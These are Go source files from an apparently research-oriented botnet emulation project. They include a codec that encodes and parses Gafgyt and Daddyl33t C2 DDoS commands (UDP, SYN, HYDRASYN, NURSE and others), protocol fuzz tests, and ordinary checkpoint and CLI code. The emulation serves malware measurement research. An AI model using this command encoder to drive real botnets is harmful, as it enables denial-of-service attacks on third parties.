	c1 := MustCompileTest(t, ps)
	c2 := MustCompileTest(t, back)
	cmd := Command{Attack: AttackUDPFlood, Duration: time.Minute}
	cmd.Target = cmdTarget(t)
	w1, e1 := c1.EncodeCommand(cmd)
	w2, e2 := c2.EncodeCommand(cmd)
	if e1 != nil || e2 != nil || string(w1) != string(w2) {
		t.Fatalf("round-tripped spec diverged: %q/%v vs %q/%v", w1, e1, w2, e2)
	}
}

func TestLinesBuffering(t *testing.T) {
	lines, rest := Lines([]byte("a\nb\r\nc"))
	if len(lines) != 2 || lines[0] != "a" || lines[1] != "b" || string(rest) != "c" {
		t.Fatalf("Lines = %v rest %q", lines, rest)
	}
}

// FuzzSpecCompile feeds arbitrary JSON specs through Compile. The
// contract under fuzz: Compile never panics, and every failure is a
// typed error wrapping ErrSpec — no raw fmt.Errorf escapes.
func FuzzSpecCompile(f *testing.F) {
	seedSpecs := []ProtocolSpec{
		minimal(),
		{Name: "b", Framing: FramingBinary,
			Session: SessionSpec{Ready: ReadyHandshake, ReadyPat: "\x00\x00\x00\x01"},
			Commands: &CommandSpec{Binary: &BinaryCommandSpec{
				Vectors:     []VectorSpec{{Attack: AttackUDPFlood, Vector: 0}},
				DportOptKey: 7,
			}}},
		{Name: "l", Framing: FramingLines, Login: []string{"HI {nick}\n"},
			Session: SessionSpec{Ready: ReadyLinePrefix, ReadyPat: "HI"},
			Commands: &CommandSpec{Text: &TextCommandSpec{
				Prefix: "!* ",
				Verbs:  []VerbSpec{{Attack: AttackSTD, Verb: "STD", Portless: true}},
			}}},
		{Name: "bad", Framing: "morse"},
		{Name: "i", Framing: FramingIRC,
			Session: SessionSpec{Ready: ReadyIRC, Channel: "#x", ServerName: "c2", WelcomeText: "hi"}},
	}
	for _, ps := range seedSpecs {
		blob, err := json.Marshal(ps)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(blob)
	}
	f.Add([]byte(`{"name":"x","framing":"lines","topology":"dga"}`))
	f.Add([]byte(`{`))
	f.Fuzz(func(t *testing.T, blob []byte) {
		var ps ProtocolSpec
		if err := json.Unmarshal(blob, &ps); err != nil {
			return // not a spec; Compile contract does not apply
		}
		c, err := Compile(ps)
		if err != nil {
			if !errors.Is(err, ErrSpec) {
				t.Fatalf("untyped compile error: %v", err)
			}
			return
		}
		// A compiled spec must also survive basic use without
		// panicking, whatever the fuzzer put in it.
		c.Login(LoginVars{Variant: "V", Nick: "N"})
		c.ClientKeepalive()
		c.ServerKeepalive()
		c.ProbeMessages()
		c.ProbeEngaged([]byte("probe data"))
		c.Signature([]byte("\x00\x00\x00\x01"))
		sess := c.NewSession()
		cl := c.NewClient()
		for _, chunk := range [][]byte{[]byte("NICK a\r\nJOIN #x\r\n"), {0, 0}, []byte("!* UDP 1.2.3.4 80 60\n")} {
			sess.Data(chunk)
			cl.Data(chunk)
		}
		if c.CanIssue() {
			cmd := Command{Attack: AttackUDPFlood, Duration: time.Minute}
			cmd.Target = cmdTarget(t)
			if wire, err := c.EncodeCommand(cmd); err == nil {
				if _, err := c.DecodeCommand(wire); err != nil &&
					!errors.Is(err, ErrNotCommand) && !errors.Is(err, ErrBadCommand) &&
					!errors.Is(err, ErrShort) && !errors.Is(err, ErrVector) {
					t.Fatalf("untyped decode error: %v", err)
				}
			}
		}
	})
}

func cmdTarget(t testing.TB) netip.Addr {
	t.Helper()
	return netip.MustParseAddr("192.0.2.7")
}

func TestDutyModelZeroMeansDefault(t *testing.T) {
	// An all-zero duty model compiles (the server substitutes the
	// paper's default cadence); partial garbage does not.
	if _, err := Compile(minimal()); err != nil {
		t.Fatal(err)
	}
	ps := minimal()
	ps.Duty = DutyModel{SlotHours: 4, RespAfterResp: 0.09, RespAfterIdle: 0.30}
	if _, err := Compile(ps); err != nil {
		t.Fatal(err)
	}
}

func TestWrapTextIRCAndLines(t *testing.T) {
	irc := minimal()
	irc.Framing = FramingIRC
	irc.Session = SessionSpec{Ready: ReadyIRC, Channel: "#c", ServerName: "srv", WelcomeText: "hi"}
	c := MustCompileTest(t, irc)
	got := string(c.WrapText("do things"))
	if !strings.HasPrefix(got, ":op!op@c2 PRIVMSG #c :do things") || !strings.HasSuffix(got, "\r\n") {
		t.Fatalf("irc wrap = %q", got)
	}
	lines := minimal()
	lines.Framing = FramingLines
	if got := string(MustCompileTest(t, lines).WrapText("x")); got != "x\n" {
		t.Fatalf("line wrap = %q", got)
	}
}
