package c2

import (
	"errors"
	"fmt"
	"net/netip"
	"strconv"
	"strings"
	"time"
)

// Gafgyt's text protocol (bashlite lineage): newline-terminated
// lines; the server keepalives with "PING", bots answer "PONG!";
// attack commands look like "!* UDP <ip> <port> <secs>".
//
// Daddyl33t's text protocol (the QBot-derived family the authors
// reverse-engineered): bare verbs — "UDPRAW <ip> <port> <secs>",
// "HYDRASYN <ip> <port> <secs>", "TLS <ip> <port> <secs>",
// "NURSE <ip> <secs>", "NFOV6 <ip> <port> <secs>".

// Gafgyt wire fragments.
const (
	GafgytPing = "PING"
	GafgytPong = "PONG!"
)

// Daddyl33t wire fragments.
const (
	DaddyPing = "!ping"
	DaddyPong = "!pong"
)

// Text protocol errors.
var (
	ErrNotCommand = errors.New("c2: line is not a DDoS command")
	ErrBadCommand = errors.New("c2: malformed DDoS command")
)

// gafgytVerb maps attack types onto Gafgyt command verbs.
func gafgytVerb(a AttackType) (string, bool) {
	switch a {
	case AttackUDPFlood:
		return "UDP", true
	case AttackSYNFlood:
		return "SYN", true
	case AttackVSE:
		return "VSE", true
	case AttackSTD:
		return "STD", true
	}
	return "", false
}

// EncodeGafgytCommand renders cmd as a "!* VERB ip port secs" line.
func EncodeGafgytCommand(cmd Command) ([]byte, error) {
	verb, ok := gafgytVerb(cmd.Attack)
	if !ok {
		return nil, fmt.Errorf("c2: %v is not a gafgyt attack", cmd.Attack)
	}
	return []byte(fmt.Sprintf("!* %s %s %d %d\n", verb, cmd.Target, cmd.Port, int(cmd.Duration.Seconds()))), nil
}

// ParseGafgytLine parses one protocol line. Non-command lines
// (PING/PONG chatter) return ErrNotCommand.
func ParseGafgytLine(line string) (*Command, error) {
	line = strings.TrimSpace(line)
	if !strings.HasPrefix(line, "!* ") {
		return nil, ErrNotCommand
	}
	fields := strings.Fields(line[3:])
	if len(fields) < 4 {
		return nil, fmt.Errorf("%w: %q", ErrBadCommand, line)
	}
	var attack AttackType
	switch fields[0] {
	case "UDP":
		attack = AttackUDPFlood
	case "SYN":
		attack = AttackSYNFlood
	case "VSE":
		attack = AttackVSE
	case "STD":
		attack = AttackSTD
	default:
		return nil, fmt.Errorf("%w: verb %q", ErrBadCommand, fields[0])
	}
	return parseIPPortSecs(attack, fields[1], fields[2], fields[3], line)
}

// daddyVerb maps attack types onto Daddyl33t verbs.
func daddyVerb(a AttackType) (string, bool) {
	switch a {
	case AttackUDPFlood:
		return "UDPRAW", true
	case AttackSYNFlood:
		return "HYDRASYN", true
	case AttackTLS:
		return "TLS", true
	case AttackBlacknurse:
		return "NURSE", true
	case AttackNFO:
		return "NFOV6", true
	}
	return "", false
}

// EncodeDaddyCommand renders cmd as a Daddyl33t command line.
func EncodeDaddyCommand(cmd Command) ([]byte, error) {
	verb, ok := daddyVerb(cmd.Attack)
	if !ok {
		return nil, fmt.Errorf("c2: %v is not a daddyl33t attack", cmd.Attack)
	}
	if cmd.Attack == AttackBlacknurse {
		return []byte(fmt.Sprintf("%s %s %d\n", verb, cmd.Target, int(cmd.Duration.Seconds()))), nil
	}
	return []byte(fmt.Sprintf("%s %s %d %d\n", verb, cmd.Target, cmd.Port, int(cmd.Duration.Seconds()))), nil
}

// ParseDaddyLine parses one Daddyl33t line.
func ParseDaddyLine(line string) (*Command, error) {
	line = strings.TrimSpace(line)
	fields := strings.Fields(line)
	if len(fields) == 0 {
		return nil, ErrNotCommand
	}
	var attack AttackType
	switch fields[0] {
	case "UDPRAW":
		attack = AttackUDPFlood
	case "HYDRASYN":
		attack = AttackSYNFlood
	case "TLS":
		attack = AttackTLS
	case "NURSE":
		attack = AttackBlacknurse
	case "NFOV6":
		attack = AttackNFO
	default:
		return nil, ErrNotCommand
	}
	if attack == AttackBlacknurse {
		if len(fields) < 3 {
			return nil, fmt.Errorf("%w: %q", ErrBadCommand, line)
		}
		return parseIPPortSecs(attack, fields[1], "0", fields[2], line)
	}
	if len(fields) < 4 {
		return nil, fmt.Errorf("%w: %q", ErrBadCommand, line)
	}
	return parseIPPortSecs(attack, fields[1], fields[2], fields[3], line)
}

func parseIPPortSecs(attack AttackType, ipS, portS, secS, raw string) (*Command, error) {
	ip, err := netip.ParseAddr(ipS)
	if err != nil {
		return nil, fmt.Errorf("%w: target %q", ErrBadCommand, ipS)
	}
	port, err := strconv.ParseUint(portS, 10, 16)
	if err != nil {
		return nil, fmt.Errorf("%w: port %q", ErrBadCommand, portS)
	}
	secs, err := strconv.Atoi(secS)
	if err != nil || secs < 0 {
		return nil, fmt.Errorf("%w: duration %q", ErrBadCommand, secS)
	}
	return &Command{
		Attack:   attack,
		Target:   ip,
		Port:     uint16(port),
		Duration: time.Duration(secs) * time.Second,
		Raw:      []byte(raw),
	}, nil
}

// Lines splits a text-protocol buffer into complete lines,
// returning them and any trailing partial line — protocol parsers
// use it so they behave identically over message-preserving simnet
// conns and real TCP streams.
func Lines(buf []byte) (lines []string, rest []byte) {
	start := 0
	for i, b := range buf {
		if b == '\n' {
			lines = append(lines, strings.TrimRight(string(buf[start:i]), "\r"))
			start = i + 1
		}
	}
	return lines, buf[start:]
}
