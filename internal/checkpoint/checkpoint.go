// Package checkpoint is the durable-snapshot codec for the year-long
// study pipeline. A checkpoint file is a versioned, self-describing
// container of named sections (the study driver stores JSON blobs in
// them) framed with explicit lengths and sealed with a SHA-256
// integrity footer, so a truncated or bit-flipped snapshot is refused
// at load time instead of resuming a silently corrupt run.
//
// Wire format (all integers big-endian):
//
//	magic    8 bytes  "MALCKPT\x01" (the final byte is the version)
//	count    4 bytes  number of sections
//	section  repeated count times:
//	         2 bytes  name length
//	         name
//	         8 bytes  data length
//	         data
//	footer   32 bytes SHA-256 over every preceding byte
//
// Files are written atomically: the encoder writes to a temp file in
// the destination directory and os.Rename's it into place, so a crash
// mid-write can never leave a half-written day-NNN.ckpt to resume
// from (tools/vettime lints this package for exactly that pattern).
package checkpoint

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

// magic identifies a checkpoint file; the trailing byte is the format
// version and is bumped on any incompatible layout change.
var magic = [8]byte{'M', 'A', 'L', 'C', 'K', 'P', 'T', 0x01}

// Decode sanity caps: a snapshot carries a handful of named sections,
// so anything claiming more is corruption, not data.
const (
	maxSections = 1 << 10
	maxNameLen  = 1 << 12
)

// Section is one named payload inside a checkpoint file.
type Section struct {
	Name string
	Data []byte
}

// File is a decoded (or to-be-encoded) checkpoint: an ordered list of
// sections.
type File struct {
	Sections []Section

	// Sum is the SHA-256 integrity footer. Decode fills it in after
	// verification, so a read-side consumer (the serving layer) can
	// use it as a content-addressed generation id without hashing the
	// file again. Zero on a File that was built by hand and never
	// encoded.
	Sum [sha256.Size]byte
}

// SumHex is the integrity footer as lowercase hex — the snapshot's
// generation id on the read side.
func (f *File) SumHex() string { return hex.EncodeToString(f.Sum[:]) }

// Add appends a raw section.
func (f *File) Add(name string, data []byte) {
	f.Sections = append(f.Sections, Section{Name: name, Data: data})
}

// AddJSON marshals v and appends it as a section.
func (f *File) AddJSON(name string, v any) error {
	b, err := json.Marshal(v)
	if err != nil {
		return fmt.Errorf("checkpoint: encoding section %q: %w", name, err)
	}
	f.Add(name, b)
	return nil
}

// Section returns the named section's bytes.
func (f *File) Section(name string) ([]byte, bool) {
	for _, s := range f.Sections {
		if s.Name == name {
			return s.Data, true
		}
	}
	return nil, false
}

// JSON unmarshals the named section into v. A missing section is an
// error: every section the study writes is load-bearing on resume.
func (f *File) JSON(name string, v any) error {
	b, ok := f.Section(name)
	if !ok {
		return fmt.Errorf("checkpoint: section %q missing", name)
	}
	if err := json.Unmarshal(b, v); err != nil {
		return fmt.Errorf("checkpoint: decoding section %q: %w", name, err)
	}
	return nil
}

// Encode serializes the file, footer included.
func Encode(f *File) []byte {
	size := len(magic) + 4
	for _, s := range f.Sections {
		size += 2 + len(s.Name) + 8 + len(s.Data)
	}
	out := make([]byte, 0, size+sha256.Size)
	out = append(out, magic[:]...)
	out = binary.BigEndian.AppendUint32(out, uint32(len(f.Sections)))
	for _, s := range f.Sections {
		out = binary.BigEndian.AppendUint16(out, uint16(len(s.Name)))
		out = append(out, s.Name...)
		out = binary.BigEndian.AppendUint64(out, uint64(len(s.Data)))
		out = append(out, s.Data...)
	}
	sum := sha256.Sum256(out)
	f.Sum = sum
	return append(out, sum[:]...)
}

// Decode parses b, verifying the magic, every length frame, and the
// integrity footer. It never panics on corrupt or truncated input —
// every read is bounds-checked against the remaining bytes (see
// FuzzCheckpointDecode).
func Decode(b []byte) (*File, error) {
	if len(b) < len(magic)+4+sha256.Size {
		return nil, fmt.Errorf("checkpoint: truncated: %d bytes", len(b))
	}
	body, foot := b[:len(b)-sha256.Size], b[len(b)-sha256.Size:]
	sum := sha256.Sum256(body)
	if string(sum[:]) != string(foot) {
		return nil, fmt.Errorf("checkpoint: integrity footer mismatch (corrupt or tampered snapshot)")
	}
	if string(body[:len(magic)]) != string(magic[:]) {
		return nil, fmt.Errorf("checkpoint: bad magic (not a checkpoint, or incompatible version)")
	}
	rest := body[len(magic):]
	count := binary.BigEndian.Uint32(rest[:4])
	rest = rest[4:]
	if count > maxSections {
		return nil, fmt.Errorf("checkpoint: implausible section count %d", count)
	}
	f := &File{Sum: sum}
	for i := uint32(0); i < count; i++ {
		if len(rest) < 2 {
			return nil, fmt.Errorf("checkpoint: truncated section %d header", i)
		}
		nameLen := int(binary.BigEndian.Uint16(rest[:2]))
		rest = rest[2:]
		if nameLen > maxNameLen || len(rest) < nameLen {
			return nil, fmt.Errorf("checkpoint: section %d name overruns file", i)
		}
		name := string(rest[:nameLen])
		rest = rest[nameLen:]
		if len(rest) < 8 {
			return nil, fmt.Errorf("checkpoint: truncated section %q length", name)
		}
		dataLen := binary.BigEndian.Uint64(rest[:8])
		rest = rest[8:]
		if dataLen > uint64(len(rest)) {
			return nil, fmt.Errorf("checkpoint: section %q data overruns file", name)
		}
		f.Add(name, rest[:dataLen])
		rest = rest[dataLen:]
	}
	if len(rest) != 0 {
		return nil, fmt.Errorf("checkpoint: %d trailing bytes after last section", len(rest))
	}
	return f, nil
}

// WriteFile encodes f and writes it to path atomically and durably:
// the bytes go to a temp file in path's directory, are fsync'd to
// stable storage (Close alone does NOT flush the kernel page cache),
// and the temp file is os.Rename'd over path; the parent directory is
// then fsync'd so the rename itself survives a power loss. Readers
// therefore only ever see a complete, footer-sealed snapshot — never
// an empty or vanished "committed" one. The temp file is chmod'd
// 0644 before the rename: os.CreateTemp creates 0600, which would
// stop a daemon running as a different user from mounting the
// snapshot it is asked to serve.
func WriteFile(path string, f *File) error {
	dir := filepath.Dir(path)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	tmp, err := os.CreateTemp(dir, filepath.Base(path)+".tmp*")
	if err != nil {
		return err
	}
	abort := func(err error) error {
		tmp.Close()
		os.Remove(tmp.Name())
		return err
	}
	if _, err := tmp.Write(Encode(f)); err != nil {
		return abort(err)
	}
	if err := tmp.Sync(); err != nil {
		return abort(err)
	}
	if err := tmp.Chmod(0o644); err != nil {
		return abort(err)
	}
	if err := tmp.Close(); err != nil {
		os.Remove(tmp.Name())
		return err
	}
	if err := os.Rename(tmp.Name(), path); err != nil {
		os.Remove(tmp.Name())
		return err
	}
	return SyncDir(dir)
}

// SyncDir fsyncs a directory, making a just-renamed entry durable:
// os.Rename updates the directory, and that update lives in the page
// cache until the directory itself is flushed. Shared with
// internal/lake, whose refs and journal follow the same discipline.
func SyncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	if err := d.Sync(); err != nil {
		d.Close()
		return err
	}
	return d.Close()
}

// ReadFile loads and decodes the checkpoint at path.
func ReadFile(path string) (*File, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	return Decode(b)
}

// DayPath names the checkpoint for study-day n inside dir.
func DayPath(dir string, day int) string {
	return filepath.Join(dir, fmt.Sprintf("day-%03d.ckpt", day))
}

// dayOf parses a day-NNN.ckpt base name; ok is false for anything
// else (temp files, strangers). The whole name must match — Sscanf
// would happily take "day-099.ckpt.tmp123".
func dayOf(name string) (int, bool) {
	digits, found := strings.CutPrefix(name, "day-")
	if !found {
		return 0, false
	}
	digits, found = strings.CutSuffix(digits, ".ckpt")
	if !found {
		return 0, false
	}
	day, err := strconv.Atoi(digits)
	if err != nil || day < 0 {
		return 0, false
	}
	return day, true
}

// Snapshot is a checkpoint found on disk by Latest, decoded and
// footer-verified. The embedded File gives section access; Path and
// Day locate it in the directory.
type Snapshot struct {
	*File
	Path string
	Day  int
}

// Latest returns the newest valid checkpoint in dir, fully decoded.
// A snapshot that fails to load — bit-flipped, truncated by a bad
// disk, or removed between the directory listing and the read — is
// skipped and the next-newest is tried, because an older good resume
// point always beats refusing to resume at all; skipped reports how
// many were passed over so the caller can log the fallback. snap is
// nil when dir holds no loadable checkpoint (including when the
// directory does not exist) — the caller then starts fresh.
func Latest(dir string) (snap *Snapshot, skipped int, err error) {
	entries, err := os.ReadDir(dir)
	if os.IsNotExist(err) {
		return nil, 0, nil
	}
	if err != nil {
		return nil, 0, err
	}
	var days []int
	for _, e := range entries {
		if d, isCkpt := dayOf(e.Name()); isCkpt {
			days = append(days, d)
		}
	}
	sort.Sort(sort.Reverse(sort.IntSlice(days)))
	for _, d := range days {
		path := DayPath(dir, d)
		f, err := ReadFile(path)
		if err != nil {
			skipped++
			continue
		}
		return &Snapshot{File: f, Path: path, Day: d}, skipped, nil
	}
	return nil, skipped, nil
}

// Prune removes every checkpoint in dir older than keepDay, keeping
// the newest snapshot as the single resume point. Removal failures
// are reported but the newest checkpoint is never touched — and one
// stubborn entry does not shield the rest: every removable checkpoint
// is removed, and the failures come back joined into one error.
func Prune(dir string, keepDay int) error {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return err
	}
	var days []int
	for _, e := range entries {
		if d, isCkpt := dayOf(e.Name()); isCkpt && d < keepDay {
			days = append(days, d)
		}
	}
	sort.Ints(days)
	var errs []error
	for _, d := range days {
		if err := os.Remove(DayPath(dir, d)); err != nil {
			errs = append(errs, err)
		}
	}
	return errors.Join(errs...)
}
