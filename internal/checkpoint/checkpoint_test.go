package checkpoint

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"
)

func sampleFile() *File {
	f := &File{}
	f.Add("meta", []byte(`{"day":12}`))
	f.Add("datasets", bytes.Repeat([]byte("abc"), 1000))
	f.Add("empty", nil)
	return f
}

func TestRoundTrip(t *testing.T) {
	f := sampleFile()
	got, err := Decode(Encode(f))
	if err != nil {
		t.Fatalf("Decode: %v", err)
	}
	if len(got.Sections) != len(f.Sections) {
		t.Fatalf("sections: got %d want %d", len(got.Sections), len(f.Sections))
	}
	for i, s := range f.Sections {
		if got.Sections[i].Name != s.Name || !bytes.Equal(got.Sections[i].Data, s.Data) {
			t.Errorf("section %d: got %q/%d bytes, want %q/%d bytes",
				i, got.Sections[i].Name, len(got.Sections[i].Data), s.Name, len(s.Data))
		}
	}
	if _, ok := got.Section("missing"); ok {
		t.Error("Section(missing) reported present")
	}
}

func TestJSONSections(t *testing.T) {
	f := &File{}
	type payload struct{ A, B int }
	if err := f.AddJSON("p", payload{A: 1, B: 2}); err != nil {
		t.Fatal(err)
	}
	got, err := Decode(Encode(f))
	if err != nil {
		t.Fatal(err)
	}
	var p payload
	if err := got.JSON("p", &p); err != nil {
		t.Fatal(err)
	}
	if p.A != 1 || p.B != 2 {
		t.Fatalf("round-tripped payload: %+v", p)
	}
	if err := got.JSON("absent", &p); err == nil {
		t.Error("JSON(absent) did not error")
	}
}

// TestFooterRejectsBitFlips flips every byte of an encoded snapshot
// in turn; the decoder must refuse each mutation (a flip inside the
// footer breaks the hash comparison, a flip in the body breaks the
// recomputed hash).
func TestFooterRejectsBitFlips(t *testing.T) {
	enc := Encode(sampleFile())
	for i := range enc {
		mut := append([]byte(nil), enc...)
		mut[i] ^= 0x40
		if _, err := Decode(mut); err == nil {
			t.Fatalf("decode accepted snapshot with byte %d flipped", i)
		}
	}
}

func TestDecodeTruncated(t *testing.T) {
	enc := Encode(sampleFile())
	for n := 0; n < len(enc); n += 7 {
		if _, err := Decode(enc[:n]); err == nil {
			t.Fatalf("decode accepted %d-byte truncation", n)
		}
	}
}

func TestWriteFileAtomicAndLatest(t *testing.T) {
	dir := t.TempDir()

	// No checkpoints yet: Latest reports none, without error, even
	// for a directory that does not exist.
	if snap, _, err := Latest(filepath.Join(dir, "absent")); err != nil || snap != nil {
		t.Fatalf("Latest on missing dir: snap=%v err=%v", snap, err)
	}

	for _, day := range []int{3, 17, 29} {
		f := &File{}
		f.Add("meta", []byte{byte(day)})
		if err := WriteFile(DayPath(dir, day), f); err != nil {
			t.Fatalf("WriteFile day %d: %v", day, err)
		}
	}
	// A stray temp file and an unrelated file must not confuse Latest.
	os.WriteFile(filepath.Join(dir, "day-099.ckpt.tmp123"), []byte("junk"), 0o644)
	os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("junk"), 0o644)

	snap, skipped, err := Latest(dir)
	if err != nil || snap == nil {
		t.Fatalf("Latest: snap=%v err=%v", snap, err)
	}
	if skipped != 0 {
		t.Fatalf("Latest skipped %d snapshots in a clean dir", skipped)
	}
	if snap.Day != 29 || snap.Path != DayPath(dir, 29) {
		t.Fatalf("Latest: got day %d path %s", snap.Day, snap.Path)
	}
	if b, _ := snap.Section("meta"); len(b) != 1 || b[0] != 29 {
		t.Fatalf("latest checkpoint content: %v", b)
	}
	raw, err := os.ReadFile(snap.Path)
	if err != nil {
		t.Fatal(err)
	}
	if want := raw[len(raw)-32:]; !bytes.Equal(snap.Sum[:], want) {
		t.Fatalf("Sum = %x, want file footer %x", snap.Sum, want)
	}

	// World-readable: os.CreateTemp's 0600 would stop a daemon running
	// as a different user from mounting the snapshot.
	fi, err := os.Stat(snap.Path)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o644 {
		t.Fatalf("checkpoint mode %v, want 0644", fi.Mode().Perm())
	}

	if err := Prune(dir, 29); err != nil {
		t.Fatalf("Prune: %v", err)
	}
	for _, day := range []int{3, 17} {
		if _, err := os.Stat(DayPath(dir, day)); !os.IsNotExist(err) {
			t.Errorf("day %d survived prune: %v", day, err)
		}
	}
	if _, err := os.Stat(DayPath(dir, 29)); err != nil {
		t.Errorf("newest checkpoint pruned: %v", err)
	}
}

// TestPruneContinuesPastFailures pins the doc contract: one stubborn
// entry must not shield the rest of the backlog. A non-empty
// directory named like a checkpoint is undeletable by os.Remove
// (works even when the tests run as root, unlike permission tricks);
// Prune must still remove every other old day, report the failure,
// and never touch the newest snapshot.
func TestPruneContinuesPastFailures(t *testing.T) {
	dir := t.TempDir()
	for _, day := range []int{2, 9, 21} {
		f := &File{}
		f.Add("meta", []byte{byte(day)})
		if err := WriteFile(DayPath(dir, day), f); err != nil {
			t.Fatal(err)
		}
	}
	// day-007.ckpt is a directory with a child: os.Remove fails.
	stuck := DayPath(dir, 7)
	if err := os.MkdirAll(filepath.Join(stuck, "child"), 0o755); err != nil {
		t.Fatal(err)
	}

	err := Prune(dir, 21)
	if err == nil {
		t.Fatal("Prune with an undeletable entry reported no error")
	}
	for _, day := range []int{2, 9} {
		if _, statErr := os.Stat(DayPath(dir, day)); !os.IsNotExist(statErr) {
			t.Errorf("day %d survived prune despite the earlier failure: %v", day, statErr)
		}
	}
	if _, statErr := os.Stat(DayPath(dir, 21)); statErr != nil {
		t.Errorf("newest checkpoint touched: %v", statErr)
	}
	if _, statErr := os.Stat(stuck); statErr != nil {
		t.Errorf("stuck entry vanished: %v", statErr)
	}
}

// TestLatestOverMixedDir walks Latest across the directory shapes a
// long-lived lake accumulates: live snapshots, corrupt ones, gaps
// left by pruning, stray temp files, and non-file entries.
func TestLatestOverMixedDir(t *testing.T) {
	dir := t.TempDir()
	// Live: 8 and 40. The pruned gap (10..30 absent) is implicit.
	for _, day := range []int{8, 40} {
		f := &File{}
		f.Add("meta", []byte{byte(day)})
		if err := WriteFile(DayPath(dir, day), f); err != nil {
			t.Fatal(err)
		}
	}
	// Corrupt newest, stray temp file, and a directory squatting on a
	// checkpoint name.
	os.WriteFile(DayPath(dir, 55), []byte("torn"), 0o644)
	os.WriteFile(filepath.Join(dir, "day-060.ckpt.tmp42"), []byte("junk"), 0o644)
	os.MkdirAll(filepath.Join(DayPath(dir, 70), "child"), 0o755)

	snap, skipped, err := Latest(dir)
	if err != nil || snap == nil {
		t.Fatalf("Latest: snap=%v err=%v", snap, err)
	}
	// day-070.ckpt is a directory: ReadFile fails, so it counts as
	// skipped alongside the corrupt day 55; day 40 is the fallback.
	if snap.Day != 40 || skipped != 2 {
		t.Fatalf("Latest: got day %d skipped %d, want day 40 skipped 2", snap.Day, skipped)
	}
}

// TestLatestSkipsCorrupt covers the fallback contract: a corrupt or
// truncated newest snapshot must not strand an otherwise resumable
// directory — Latest walks backwards to the newest valid one,
// reporting how many it passed over.
func TestLatestSkipsCorrupt(t *testing.T) {
	dir := t.TempDir()
	for _, day := range []int{5, 11, 20, 28} {
		f := &File{}
		f.Add("meta", []byte{byte(day)})
		if err := WriteFile(DayPath(dir, day), f); err != nil {
			t.Fatal(err)
		}
	}
	// Truncate day 28 (crash mid-write on a filesystem without atomic
	// rename semantics) and bit-flip day 20 (bad disk).
	enc, err := os.ReadFile(DayPath(dir, 28))
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(DayPath(dir, 28), enc[:len(enc)/2], 0o644)
	enc, err = os.ReadFile(DayPath(dir, 20))
	if err != nil {
		t.Fatal(err)
	}
	enc[len(enc)/3] ^= 0x10
	os.WriteFile(DayPath(dir, 20), enc, 0o644)

	snap, skipped, err := Latest(dir)
	if err != nil || snap == nil {
		t.Fatalf("Latest: snap=%v err=%v", snap, err)
	}
	if snap.Day != 11 || skipped != 2 {
		t.Fatalf("Latest: got day %d skipped %d, want day 11 skipped 2", snap.Day, skipped)
	}
	if b, _ := snap.Section("meta"); len(b) != 1 || b[0] != 11 {
		t.Fatalf("fallback snapshot content: %v", b)
	}

	// All snapshots corrupt: none found, all counted.
	for _, day := range []int{5, 11} {
		os.WriteFile(DayPath(dir, day), []byte("junk"), 0o644)
	}
	snap, skipped, err = Latest(dir)
	if err != nil || snap != nil {
		t.Fatalf("Latest over all-corrupt dir: snap=%v err=%v", snap, err)
	}
	if skipped != 4 {
		t.Fatalf("skipped = %d, want 4", skipped)
	}
}

// FuzzCheckpointDecode asserts the decoder's contract: arbitrary
// bytes never panic it, and any mutation of a valid snapshot is
// rejected by the integrity footer.
func FuzzCheckpointDecode(f *testing.F) {
	f.Add(Encode(sampleFile()))
	f.Add([]byte{})
	f.Add([]byte("MALCKPT\x01"))
	f.Fuzz(func(t *testing.T, b []byte) {
		file, err := Decode(b)
		if err != nil {
			return
		}
		// Anything that decodes must re-encode to the same bytes
		// (canonical form) — and in particular must carry a valid
		// footer, so a fuzzer "success" is a genuine round trip.
		if !bytes.Equal(Encode(file), b) {
			t.Fatalf("decode/encode not a round trip for %d-byte input", len(b))
		}
	})
}
