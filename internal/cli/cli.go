// Package cli centralizes the flag wiring shared by the malnet
// command family (cmd/malnet, cmd/experiments, cmd/malnetd): the
// study-shaping knobs (seed, feed size, workers, fault injection),
// checkpoint durability, and the observability sinks (trace journal,
// metrics snapshot, live debug server). Each command registers one
// flag group per concern instead of re-declaring ~100 lines of
// identical flag definitions, and the flag-to-config translation
// lives here once, so a new knob lands in every command at the same
// time.
package cli

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"malnet/internal/core"
	"malnet/internal/lake"
	"malnet/internal/loadgen"
	"malnet/internal/obs"
	"malnet/internal/world"
)

// StudyFlags is the common flag set of every command that runs a
// study. Register it on a FlagSet with NewStudyFlags, then call
// Configs after parsing.
type StudyFlags struct {
	Seed      int64
	Samples   int
	Workers   int
	Short     bool
	Faults    bool
	FaultSeed int64
	Verbose   bool
	Scenarios string

	Checkpoint CheckpointFlags
	Obs        ObsFlags
}

// NewStudyFlags registers the full study flag group on fs.
func NewStudyFlags(fs *flag.FlagSet) *StudyFlags {
	f := &StudyFlags{}
	fs.Int64Var(&f.Seed, "seed", 42, "world and pipeline seed")
	fs.IntVar(&f.Samples, "samples", 0, "feed size (0 = paper's 1447)")
	fs.IntVar(&f.Workers, "workers", 0, "sandbox worker pool size (0 = all cores); output is identical at any value")
	fs.BoolVar(&f.Short, "short", false, "scaled-down study (150 samples, 12 probe rounds)")
	fs.BoolVar(&f.Faults, "faults", false, "inject deterministic network faults (loss, resets, spikes, blackouts, slow drips)")
	fs.Int64Var(&f.FaultSeed, "fault-seed", 0, "fault-plan seed (0 = -seed); same seed reproduces the same fault schedule at any worker count")
	fs.BoolVar(&f.Verbose, "v", false, "print per-1000-sample throughput to stderr while the study runs")
	fs.StringVar(&f.Scenarios, "scenarios", "", "comma-separated scenario-pack families to add to the world (e.g. wisp,sora)")
	f.Checkpoint.Register(fs)
	f.Obs.Register(fs)
	return f
}

// Configs translates the parsed flags into a (world, study) config
// pair, validated: a bad combination (e.g. -resume without
// -checkpoint-dir) comes back as an error naming the fields.
func (f *StudyFlags) Configs() (world.Config, core.StudyConfig, error) {
	wcfg := world.DefaultConfig(f.Seed)
